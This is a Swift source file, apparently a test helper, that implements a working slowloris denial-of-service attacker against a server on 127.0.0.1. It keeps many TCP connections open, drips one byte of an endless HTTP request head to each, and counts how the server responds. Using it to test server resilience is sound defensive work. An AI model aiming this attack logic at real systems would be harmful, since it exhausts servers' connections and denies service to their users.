import Foundation
import Synchronization

/// A slowloris attacker on 127.0.0.1:port, on a thread of its own: it keeps `connections` TCP connections
/// open, each sending one byte of a request head that never ends every `byteInterval` seconds, and opens a
/// new connection (at most every 100 ms) for each one the server closes. Bounded: it stops on ``stop()`` or
/// after `seconds`.
final class Slowloris: Sendable {
    /// What the attacker saw.
    struct Counts: Sendable {
        /// Connections established (the handshake completed), over the whole attack.
        var established = 0
        /// Connections the server closed or reset.
        var closedByServer = 0
        /// Connections open now.
        var open = 0
        /// The most connections open at once.
        var mostOpen = 0
    }

    private let port: UInt16
    private let connections: Int
    private let byteInterval: Double
    private let seconds: Double
    private let state = Mutex((counts: Counts(), stopping: false))
    private let finished = DispatchSemaphore(value: 0)

    init(port: UInt16, connections: Int, byteInterval: Double = 1, seconds: Double = 90) {
        self.port = port
        self.connections = connections
        self.byteInterval = byteInterval
        self.seconds = seconds
    }

    var counts: Counts { state.withLock { $0.counts } }

    /// Starts the attack and waits, up to `seconds`, until each of its connections was established once;
    /// returns whether they were.
    @discardableResult
    func start(waitingUpTo seconds: Double = 30) -> Bool {
        Thread.detachNewThread { [self] in
            attack()
            finished.signal()
        }
        let deadline = Date().addingTimeInterval(seconds)
        while counts.established < connections && Date() < deadline { Thread.sleep(forTimeInterval: 0.05) }
        return counts.established >= connections
    }

    func stop() {
        state.withLock { $0.stopping = true }
        finished.wait()
    }

    private struct Slot {
        var fd: Int32 = -1
        var connected = false
        var sent = 0
        var nextByte = Date.distantPast
    }

    /// Bytes of a request head that never ends: a request line, then one header value growing forever.
    private static let head = Array("GET /metrics HTTP/1.1\r\nX-Slow: ".utf8)

    private func attack() {
        var slots = [Slot](repeating: Slot(), count: connections)
        defer { for slot in slots where slot.fd >= 0 { close(slot.fd) } }
        let end = Date().addingTimeInterval(seconds)
        var lastOpening = Date.distantPast
        while Date() < end && !state.withLock({ $0.stopping }) {
            if Date().timeIntervalSince(lastOpening) >= 0.1 {
                lastOpening = Date()
                for index in slots.indices where slots[index].fd < 0 { slots[index] = open() }
            }
            var items = slots.map {
                pollfd(fd: $0.fd, events: Int16($0.connected ? POLLIN : POLLOUT), revents: 0)
            }
            _ = poll(&items, nfds_t(items.count), 100)
            let now = Date()
            var established = 0
            var closed = 0
            for index in slots.indices where slots[index].fd >= 0 {
                let events = Int32(items[index].revents)
                if !slots[index].connected {
                    guard events != 0 else { continue }
                    if events & (POLLERR | POLLHUP) == 0 {
                        slots[index].connected = true
                        established += 1
                    } else {
                        drop(&slots[index])
                    }
                } else if events != 0 {
                    drop(&slots[index])
                    closed += 1
                } else if now >= slots[index].nextByte {
                    var byte = slots[index].sent < Self.head.count ? Self.head[slots[index].sent] : UInt8(ascii: "a")
                    if send(slots[index].fd, &byte, 1, Int32(MSG_NOSIGNAL)) == 1 {
                        slots[index].sent += 1
                        slots[index].nextByte = now.addingTimeInterval(byteInterval)
                    } else {
                        drop(&slots[index])
                        closed += 1
                    }
                }
            }
            let open = slots.count { $0.connected }
            state.withLock {
                $0.counts.established += established
                $0.counts.closedByServer += closed
                $0.counts.open = open
                $0.counts.mostOpen = max($0.counts.mostOpen, open)
            }
        }
    }

    /// A non-blocking connect, its first byte due at a random moment within one interval.
    private func open() -> Slot {
        let fd = socket(AF_INET, Int32(SOCK_STREAM.rawValue) | Int32(SOCK_NONBLOCK.rawValue), 0)
        guard fd >= 0 else { return Slot() }
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        address.sin_port = port.bigEndian
        address.sin_addr.s_addr = inet_addr("127.0.0.1")
        _ = withUnsafePointer(to: &address) {
            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) {
                connect(fd, $0, socklen_t(MemoryLayout<sockaddr_in>.size))
            }
        }
        return Slot(fd: fd, nextByte: Date().addingTimeInterval(Double.random(in: 0..<byteInterval)))
    }

    private func drop(_ slot: inout Slot) {
        close(slot.fd)
        slot = Slot()
    }
}
